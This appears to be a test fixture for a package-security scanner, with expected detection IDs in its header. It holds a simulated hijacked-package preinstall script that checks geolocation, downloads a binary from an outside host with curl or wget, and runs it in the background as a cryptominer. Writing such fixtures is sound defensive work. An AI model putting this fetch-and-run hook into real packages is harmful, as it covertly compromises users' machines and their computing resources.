#! path=preinstall.sh flags=install expect=L2-BUND-001:HIGH:7,L2-IOC-001:CRITICAL:5 max=any
#!/bin/sh
# Written for this test: the shape of a hijacked package's preinstall (2021 incidents).
IP=$(curl -k https://freegeoip.app/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]; then
  curl http://citationsherbe.at/sdd.dll -o jsextension
  if [ ! -f jsextension ]; then wget http://citationsherbe.at/sdd.dll -O jsextension; fi
  chmod +x ./jsextension
  ./jsextension -k --tls --rig-id q -o pool.example:443 --nicehash >/dev/null 2>&1 &
fi
